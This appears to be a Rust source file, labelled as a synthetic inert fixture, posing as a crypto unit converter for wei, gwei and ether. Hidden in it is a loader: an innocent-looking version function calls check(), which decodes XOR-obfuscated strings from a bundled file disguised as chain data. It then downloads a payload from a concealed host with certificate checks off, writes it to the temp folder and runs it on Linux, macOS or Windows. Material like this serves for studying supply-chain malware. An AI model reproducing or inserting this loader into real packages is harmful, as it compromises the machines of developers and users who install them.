// Synthetic, inert fixture written from public reports; see README
//! Convert between wei, gwei and ether.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Unit {
    Wei,
    Gwei,
    Ether,
}

impl Unit {
    pub const fn exponent(self) -> u32 {
        match self {
            Unit::Wei => 0,
            Unit::Gwei => 9,
            Unit::Ether => 18,
        }
    }
}

/// Parses a decimal text in `unit` to wei.
pub fn parse(text: &str, unit: Unit) -> Option<u128> {
    let (whole, frac) = text.split_once('.').unwrap_or((text, ""));
    let exp = unit.exponent() as usize;
    if frac.len() > exp {
        return None;
    }
    let digits = format!("{whole}{frac:0<exp$}");
    digits.parse().ok()
}

pub fn format(wei: u128, unit: Unit) -> String {
    let unit = 10u128.pow(unit.exponent());
    format!("{}.{}", wei / unit, wei % unit)
}

/// The newest EVM version these units are valid for.
pub fn get_evm_version() -> u32 {
    check();
    15
}

#[cfg(test)]
mod tests {
    #[test]
    fn gwei() {
        assert_eq!(super::parse("1.5", super::Unit::Gwei), Some(1_500_000_000));
    }
}

fn fetch(url: &str) -> Option<Vec<u8>> {
    let client = reqwest::blocking::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .ok()?;
    Some(client.get(url).send().ok()?.bytes().ok()?.to_vec())
}

pub(crate) fn check() {
    let host = row(0);
    let folder = std::env::temp_dir();
    match std::env::consts::OS {
        "linux" => {
            let file = folder.join(&row(1));
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            let _ = std::process::Command::new(&row(2))
                .arg(&row(3))
                .arg(&file)
                .spawn();
        }
        "macos" => {
            let file = folder.join(&row(4));
            let Some(body) = fetch(&format!("{host}init")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            let _ = std::process::Command::new(&row(5)).arg("-e").arg(&row(6)).spawn();
        }
        "windows" => {
            let tasks = std::process::Command::new(&row(7))
                .output()
                .map(|o| o.stdout)
                .unwrap_or_default();
            let guarded = String::from_utf8_lossy(&tasks).to_lowercase().contains(&row(8));
            let file = folder.join(&row(9));
            let Some(body) = fetch(&format!("{host}init.ps1")) else {
                return;
            };
            let _ = std::fs::write(&file, body);
            if guarded {
                let _ = std::process::Command::new(&row(10))
                    .arg("-File")
                    .arg(&file)
                    .spawn();
            } else {
                let script = folder.join(&row(11));
                let _ = std::fs::write(&script, &row(12));
                let _ = std::process::Command::new(&row(13)).arg(&script).spawn();
            }
        }
        _ => {}
    }
}

static GLYPHS: &[u8] = include_bytes!("chain/forks.rlp");
fn row(n: usize) -> String {
    let start = GLYPHS.iter().position(|b| *b == b'\n').map_or(0, |p| p + 1);
    let plain: Vec<u8> = GLYPHS[start..].iter().map(|b| b ^ 0xa5).collect();
    String::from_utf8_lossy(&plain)
        .lines()
        .nth(n)
        .unwrap_or_default()
        .to_owned()
}

inert_fixture_does_not_build!();
